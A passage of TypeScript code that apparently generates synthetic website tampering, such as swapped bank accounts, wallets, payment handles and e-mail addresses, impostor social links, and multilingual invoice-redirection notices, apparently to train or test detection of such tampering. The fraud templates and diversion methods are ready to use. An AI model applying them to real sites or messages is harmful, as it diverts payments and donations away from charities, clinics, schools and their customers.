  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.phone)}: <a href="tel:${other.tel}">${esc(other.national)}</a>`, slotAt(page.spots, "bottom")))
})

// E-mail diversion to a free-mail box with the business's name in it (the address on the contact page replaced by "brandclinic.office@gmail.com" or similar, so that enquiries, invoices and CVs reach the fraudster; reported in invoice-fraud and recruitment-scam cases): text and mailto: links everywhere.
const freemail = deface("fresh36-contact-email-replaced-by-free-mail-address-with-brand-name", (page, rng) => {
  const local = page.ids.email.split("@")[0] ?? "info"
  const b = bare(page)
  const next = `${pick(rng, [`${b}.${local}`, `${b}${pick(rng, ["office", "info", "team", "admin", "billing"])}`, `${local}.${b}`, `${b}${digits(rng, 2)}`, `${b}.${pick(rng, ["official", "support", "accounts"])}`])}@${pick(rng, ["gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "proton.me", "aol.com", "gmx.com", "mail.com", "icloud.com"])}`
  const out = everywhere(page, [[`mailto:${page.ids.email}`, `mailto:${next}`], [page.ids.email, next]])
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.phone.intl, page.ids.phone.national], `${esc(page.site.words.email)}: <a href="mailto:${next}">${next}</a>`, slotAt(page.spots, "bottom")))
})

// Quiet bank-detail swaps on donation and invoice lines (the account a charity, church or school publishes for transfers replaced by a mule account at another domestic bank, no notice, found only when the treasurer asks where the gifts went): the bank line's value replaced everywhere.
const bankSwapped = deface("fresh36-bank-account-on-donation-line-swapped-for-another-domestic-account", (page, rng) => {
  const b = page.ids.bank
  let nb = makeBank(rng, page.site.locale)
  for (let i = 0; i < 5 && nb !== null && b !== null && nb.value === b.value; i++) nb = makeBank(rng, page.site.locale)
  if (b !== null && nb !== null) {
    const out = everywhere(page, [[b.kind === "iban" ? `IBAN ${b.value}` : b.value, nb.kind === "iban" ? `IBAN ${nb.value}` : nb.value], [b.value, nb.value]])
    if (out.length > 0) return { splices: out }
  }
  const line = nb === null ? `IBAN ${["LT", "EE", "LU"][int(rng, 3)]}${digits(rng, 18)}` : nb.kind === "iban" ? `IBAN ${nb.value}` : nb.value
  return splices(lineBeside(page, contactNeedles(page), `${esc(page.site.words.bank)}: ${esc(line)}`, slotAt(page.spots, "bottom")))
})

// Crypto-donation address swaps (the wallet a non-profit or creator publishes replaced by the attacker's, the classic clipper on the page itself): the site's address replaced everywhere by another of the same coin.
const walletSwapped = deface("fresh36-crypto-donation-address-swapped-for-attacker-wallet-of-same-coin", (page, rng) => {
  const w = page.ids.wallet
  if (w !== null) {
    const nw = makeWallet(rng, w.coin)
    const out = everywhere(page, [[w.address, nw.address]])
    if (out.length > 0) return { splices: out }
  }
  const nw = makeWallet(rng)
  return splices(lineBeside(page, contactNeedles(page), `${esc(page.site.words.donate)}: ${esc(nw.coin)} <code>${nw.address}</code>`, slotAt(page.spots, "bottom")))
})

// Payment-handle swaps (the PayPal.me, Venmo, Cash App, Revolut or PIX handle on a church's, club's or freelancer's page replaced by a private person's, text and link): the handle everywhere, or a handle line added.
const handleSwapped = deface("fresh36-payment-handle-replaced-by-a-private-person-account", (page, rng) => {
  const person = personName(rng, page)
  const h = `${ascii(person.split(" ")[0]!)}${pick(rng, ["", ".", "_"])}${ascii(person.split(" ").slice(1).join(""))}${chance(rng, 0.5) ? digits(rng, 2) : ""}`
  const pay = page.ids.pay
  if (pay !== null && pay.href !== null) {
    const old = pay.href.replace(/\/$/, "").split("/").pop() ?? ""
    const oldBare = old.replace(/^[$@]/, "")
    if (oldBare !== "") {
      const out = everywhere(page, [[pay.href, pay.href.replace(oldBare, h)], [pay.shown, pay.shown.replace(oldBare, h)]])
      if (out.length > 0) return { splices: out }
    }
  }
  if (pay !== null && pay.href === null) {
    const out = textOcc(page, pay.shown).map((r) => replace(r, esc(`Chave PIX: ${digits(rng, 3)}.${digits(rng, 3)}.${digits(rng, 3)}-${digits(rng, 2)}`)))
    if (out.length > 0) return { splices: out }
  }
  return splices(lineBeside(page, contactNeedles(page), `${esc(page.site.words.payWith)} <a href="https://www.paypal.me/${esc(h)}">paypal.me/${esc(h)}</a>`, slotAt(page.spots, "bottom")))
})

/** An impostor profile on the same network as `href`. */
const impostor = (rng: Rng, href: string, handle: string): string => {
  if (/facebook\.com\//.test(href)) return chance(rng, 0.6) ? `https://www.facebook.com/profile.php?id=6155${digits(rng, 11)}` : `https://www.facebook.com/${handle}.${pick(rng, ["page", "official", "info", "team"])}${digits(rng, 1)}`
  if (/instagram\.com\//.test(href)) return `https://www.instagram.com/${handle.toLowerCase()}${pick(rng, ["_", ".", "__"])}${pick(rng, ["official", "real", "page", "hq", digits(rng, 2)])}/`
  if (/(x|twitter)\.com\//.test(href)) return `https://x.com/${handle}${pick(rng, ["_", ""])}${pick(rng, ["Real", "HQ", "Info", digits(rng, 3)])}`
  if (/linkedin\.com\//.test(href)) return `https://www.linkedin.com/company/${handle.toLowerCase()}-${pick(rng, ["official", "group", "ltd", digits(rng, 3)])}`
  if (/youtube\.com\//.test(href)) return `https://www.youtube.com/@${handle}${pick(rng, ["Official", "TV", "-live", digits(rng, 2)])}`
  return `https://t.me/${chance(rng, 0.5) ? "+" + base58(rng, 16) : `${handle.toLowerCase()}_${pick(rng, ["official", "news", "group", "chat"])}`}`
}

// Impostor profiles (follow-us links pointed at a cloned page with the same name and picture, used for fake giveaways, "ticket resale" and donation scams; Facebook impostor pages with numeric profile ids are the desk's usual find): every follow link to an impostor on the same network, the labels unchanged.
const socialImpostors = deface("fresh36-follow-us-links-pointed-at-cloned-impostor-profiles", (page, rng) => {
  const out: Array<Splice> = []
  for (const s of page.ids.social) {
    if (s.href === null) continue
    const handle = s.href.replace(/\/$/, "").split("/").pop()?.replace(/^@/, "") ?? ""
    if (handle === "") continue
    const to = impostor(rng, s.href, handle)
    out.push(...anchors(page, (h) => h === s.href).map((a) => setAttr(page, a, "href", to)))
  }
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.follow)}: <a href="https://www.facebook.com/profile.php?id=6155${digits(rng, 11)}">Facebook</a>`, slotAt(page.spots, "bottom")))
})

const waLabel: T<ReadonlyArray<string>> = {
  en: ["Chat with us on WhatsApp", "Questions? WhatsApp us", "Book via WhatsApp"], fr: ["Écrivez-nous sur WhatsApp", "Une question ? WhatsApp"], de: ["Schreiben Sie uns auf WhatsApp", "Fragen? WhatsApp"],
  es: ["Escríbenos por WhatsApp", "¿Dudas? WhatsApp"], nl: ["Chat met ons via WhatsApp", "Vragen? WhatsApp ons"], pt: ["Fale conosco no WhatsApp", "Dúvidas? Chame no WhatsApp"], it: ["Scrivici su WhatsApp", "Domande? WhatsApp"]
}

// Chat-button hijacks (a floating WhatsApp button added, or its number changed, so that customers' "is this still available / how do I pay" chats go to a fraudster who asks for a transfer; a lead-capture and payment-fraud pattern reported against small shops and clinics): a floating button to a number that is not the site's.
const whatsappForeign = deface("fresh36-floating-whatsapp-button-to-a-number-that-is-not-the-site", (page, rng) => {
  const num = pick(rng, [
    () => makePhone(page.site.locale, page.site.locale.phones.length - 1, rng).tel.slice(1),
    () => `44 7${digits(rng, 9)}`.replace(/\s/g, ""), () => `234 8${digits(rng, 9)}`.replace(/\s/g, ""), () => `63 9${digits(rng, 9)}`.replace(/\s/g, ""),
    () => `1${between(rng, 2, 9)}${digits(rng, 2)}${between(rng, 2, 9)}${digits(rng, 6)}`, () => `351 9${digits(rng, 8)}`.replace(/\s/g, "")
  ])()
  const label = pick(rng, siteOr(rng, page, waLabel))
  const style = `position:fixed;${pick(rng, ["right", "left"])}:${between(rng, 12, 30)}px;bottom:${between(rng, 12, 40)}px;z-index:${between(rng, 999, 99999)};background:#25d366;color:#fff;padding:12px 18px;border-radius:30px;text-decoration:none;font-family:sans-serif`
  const link = `<a href="https://wa.me/${num}${chance(rng, 0.5) ? `?text=${encodeURIComponent(pick(rng, ["Hello", "Hi, I have a question", "Bonjour", "Hallo", "Hola", "Olá"]))}` : ""}" class="${pick(rng, ["wa-float", "whatsapp-button", "joinchat"])}" style="${style}">${esc(label)}</a>`
  return splices(insert(pick(rng, [bottom(page), top(page)]), link))
})

const postalLine: T<ReadonlyArray<string>> = {
  en: ["Cheques and postal donations: please make cheques payable to {P} and send them to {A}.", "Please send signed forms and payments by post to our new mailing address: {P}, {A}."],
  fr: ["Chèques et dons par courrier : merci de libeller vos chèques à l'ordre de {P} et de les adresser à {A}.", "Merci d'envoyer vos formulaires signés et règlements à notre nouvelle adresse postale : {P}, {A}."],
  de: ["Spenden per Post und Schecks bitte an {P}, {A}.", "Bitte senden Sie unterschriebene Formulare und Zahlungen an unsere neue Postanschrift: {P}, {A}."],
  es: ["Cheques y donativos por correo: a nombre de {P}, enviar a {A}.", "Envíe los formularios firmados y los pagos a nuestra nueva dirección postal: {P}, {A}."],
  nl: ["Giften per post en cheques graag aan {P}, {A}.", "Stuur ondertekende formulieren en betalingen naar ons nieuwe postadres: {P}, {A}."],
  pt: ["Cheques e doações pelo correio: nominais a {P}, enviar para {A}.", "Envie formulários assinados e pagamentos para nosso novo endereço postal: {P}, {A}."],
  it: ["Assegni e donazioni per posta: intestati a {P}, da inviare a {A}.", "Inviate moduli firmati e pagamenti al nostro nuovo indirizzo postale: {P}, {A}."]
}
const poBox: Readonly<Record<string, (rng: Rng) => string>> = {
  us: (r) => `P.O. Box ${between(r, 100, 9999)}, ${pick(r, ["Newark, NJ 071", "Houston, TX 772", "Miami, FL 331", "Atlanta, GA 303"])}${digits(r, 2)}`,
  uk: (r) => `PO Box ${between(r, 100, 9999)}, ${pick(r, ["Croydon CR9", "Luton LU1", "Bradford BD1", "Ilford IG1"])} ${digits(r, 1)}${upper(r, 2)}`,
  fr: (r) => `BP ${between(r, 10, 999)}, ${pick(r, ["93", "13", "69", "59"])}${digits(r, 3)} ${pick(r, ["Saint-Denis Cedex", "Marseille Cedex", "Lyon Cedex", "Lille Cedex"])}`,
  de: (r) => `Postfach ${between(r, 1000, 99999)}, ${pick(r, ["10", "20", "44", "60"])}${digits(r, 3)} ${pick(r, ["Berlin", "Hamburg", "Dortmund", "Frankfurt"])}`,
  es: (r) => `Apartado de Correos ${between(r, 100, 9999)}, ${pick(r, ["28", "08", "46", "29"])}${digits(r, 3)} ${pick(r, ["Madrid", "Barcelona", "Valencia", "Málaga"])}`,
  nl: (r) => `Postbus ${between(r, 100, 99999)}, ${between(r, 1000, 9999)} ${upper(r, 2)} ${pick(r, ["Rotterdam", "Amsterdam", "Almere", "Den Haag"])}`,
  au: (r) => `PO Box ${between(r, 100, 9999)}, ${pick(r, ["Parramatta NSW 21", "Dandenong VIC 31", "Southport QLD 42"])}${digits(r, 2)}`,
  in: (r) => `PO Box ${between(r, 100, 9999)}, ${pick(r, ["Mumbai 4000", "New Delhi 1100", "Bengaluru 5600"])}${digits(r, 2)}`,
  br: (r) => `Caixa Postal ${between(r, 100, 99999)}, CEP ${digits(r, 5)}-${digits(r, 3)}, ${pick(r, ["São Paulo - SP", "Rio de Janeiro - RJ", "Recife - PE"])}`,
  it: (r) => `Casella Postale ${between(r, 10, 9999)}, ${pick(r, ["00", "20", "80", "10"])}${digits(r, 3)} ${pick(r, ["Roma", "Milano", "Napoli", "Torino"])}`
}

// Postal diversion (the address for cheques, signed forms and postal donations changed to a PO box in another city in a private person's name; an old fraud that still works on churches, schools and charities whose supporters pay by cheque): one line beside the contact or bank lines.
const postalDiverted = deface("fresh36-cheques-and-signed-forms-redirected-to-new-po-box-in-person-name", (page, rng) => {
  const P = chance(rng, 0.7) ? personName(rng, page) : `${brandName(page)} ${pick(rng, ["Trust", "Fund", "Services", "Admin"])}`
  const A = (poBox[page.site.locale.country] ?? poBox.uk!)(rng)
  const text = fill(pick(rng, say(page, postalLine)), { P, A })
  return splices(lineBeside(page, contactNeedles(page), esc(text), slotAt(page.spots, "bottom")))
})

// The quietest phone swap (only the international form of the number changed, the one foreign patients, parents abroad and overseas donors call, the national form left as it was so a local check passes).
const intlOnly = deface("fresh36-only-the-international-form-of-the-phone-number-changed", (page, rng) => {
  const p = page.ids.phone
  const other = swapPhone(page.site.locale, p, rng)
  const out = everywhere(page, [[p.intl, other.intl]])
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.abroad)}: ${esc(other.intl)}`, slotAt(page.spots, "bottom")))
})

/** The site's domain with one letter changed the way typosquatters do. */
const typoDomain = (rng: Rng, domain: string): string => {
  const [label, ...rest] = domain.split(".")
  const l = label ?? "site"
  const tail = rest.join(".")
  const i = between(rng, 1, Math.max(1, l.length - 2))
  const variants = [
    l.replace(/m/, "rn"), l.replace(/l/, "1"), l.replace(/o/, "0"), l.replace(/i/, "l"), l.slice(0, i) + l[i] + l.slice(i),
    l.slice(0, i) + l.slice(i + 1), l.length > 3 ? l.slice(0, i - 1) + l[i] + l[i - 1] + l.slice(i + 1) : l + "s", `${l}-${pick(rng, ["mail", "office", "team"])}`
  ].filter((v) => v !== l && v.length > 1)
  return `${pick(rng, variants.length > 0 ? variants : [`${l}s`])}.${tail === "" ? "com" : tail}`
}

// Typosquatted e-mail (the contact address changed to the same mailbox at a domain one letter off, registered the same week; the invoice-fraud crews' favourite because replies look right at a glance): text and mailto: links everywhere.
const emailTypo = deface("fresh36-contact-email-moved-to-typosquatted-copy-of-own-domain", (page, rng) => {
  const [local, dom] = page.ids.email.split("@") as [string, string]
  let d2 = typoDomain(rng, dom)
  if (d2 === dom) d2 = `${dom.split(".")[0]}-mail.${dom.split(".").slice(1).join(".") || "com"}`
  const next = `${local}@${d2}`
  const out = everywhere(page, [[page.ids.email, next]])
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.phone.intl], `${esc(page.site.words.email)}: <a href="mailto:${next}">${next}</a>`, slotAt(page.spots, "bottom")))
})

const invoiceNotice: T<ReadonlyArray<string>> = {
  en: ["Patients and parents: please settle all outstanding invoices and fees by transfer to our new account, {A}, quoting your invoice number. Payments to the previous account can no longer be processed.", "Billing update: from {d} all payments must be made to {A} (account holder: {P})."],
  fr: ["Patients et familles : merci de régler toutes les factures en attente par virement sur notre nouveau compte, {A}, en indiquant votre numéro de facture. Les paiements sur l'ancien compte ne peuvent plus être traités.", "Facturation : à partir du {d}, tous les paiements doivent être effectués sur {A} (titulaire : {P})."],
  de: ["Patienten und Eltern: Bitte begleichen Sie offene Rechnungen und Gebühren per Überweisung auf unser neues Konto {A} unter Angabe der Rechnungsnummer. Zahlungen auf das bisherige Konto können nicht mehr bearbeitet werden.", "Abrechnung: Ab dem {d} sind alle Zahlungen an {A} zu leisten (Kontoinhaber: {P})."],
  es: ["Pacientes y familias: abonen las facturas y cuotas pendientes por transferencia a nuestra nueva cuenta, {A}, indicando el número de factura. Los pagos a la cuenta anterior ya no se pueden procesar.", "Facturación: desde el {d} todos los pagos deben hacerse a {A} (titular: {P})."],
  nl: ["Patiënten en ouders: betaal openstaande facturen en bijdragen voortaan op onze nieuwe rekening {A} onder vermelding van het factuurnummer. Betalingen op de oude rekening kunnen niet meer worden verwerkt.", "Facturatie: vanaf {d} moeten alle betalingen naar {A} (t.n.v. {P})."],
  pt: ["Pacientes e famílias: quitem as faturas e mensalidades em aberto por transferência para nossa nova conta, {A}, informando o número da fatura. Pagamentos na conta anterior não podem mais ser processados.", "Cobrança: a partir de {d} todos os pagamentos devem ser feitos para {A} (titular: {P})."],
  it: ["Pazienti e famiglie: saldate fatture e rette in sospeso con bonifico sul nostro nuovo conto, {A}, indicando il numero di fattura. I pagamenti sul vecchio conto non possono più essere elaborati.", "Fatturazione: dal {d} tutti i pagamenti vanno effettuati su {A} (intestatario: {P})."]
}

// Invoice redirection with a cover story (the "we have a new account, old payments cannot be processed" notice aimed at a clinic's patients, a school's parents or a practice's clients; the business-e-mail-compromise script moved onto the website): a notice near the top or beside the contact lines with a new domestic account in someone else's name.
const invoiceRedirect = deface("fresh36-outstanding-invoices-notice-pointing-to-new-account-in-other-name", (page, rng) => {
  const nb = makeBank(rng, page.site.locale)
  const A = nb === null ? `IBAN GB${digits(rng, 2)}${pick(rng, ["REVO", "MONZ", "SRLG"])}${digits(rng, 14)}` : nb.kind === "iban" ? `IBAN ${nb.value}` : nb.value
  const P = chance(rng, 0.7) ? personName(rng, page) : `${brandName(page)} ${pick(rng, ["Billing", "Payments", "Holdings"])}`
  const text = fill(pick(rng, say(page, invoiceNotice)), { A, P, d: soon(page, rng, 0, 7) })
  const html = `<strong>${esc(text)}</strong>`
  return splices(chance(rng, 0.5) ? lineBeside(page, contactNeedles(page), html, blockSpot(rng, page)) : insert(blockSpot(rng, page), `<div class="${pick(rng, ["notice", "billing-notice", "alert alert-info", "important"])}"><p>${html}</p></div>`))
})

/** Every fresh36 defacement class, in a fixed order. */
export const fresh36Defacements: ReadonlyArray<ChangeClass> = [
  crewIndex, japaneseDoorway, pharmaParagraphs, hiddenLinks, headingSigned, picturesSwapped, marqueeAnthem, falseClosure, paragraphsTaunted, drugSnippet, ransomCountdown,
  fakeUpdate, clickFixSteps, pluginLoader, formRetargeted, donateRerouted, bookingRerouted, walletDrainer, referrerRedirect, tdsFrame, downloadsSwapped, fakeCardForm, docLogin,
  phoneEverywhere, freemail, bankSwapped, walletSwapped, handleSwapped, socialImpostors, whatsappForeign, postalDiverted, intlOnly, emailTypo, invoiceRedirect
]
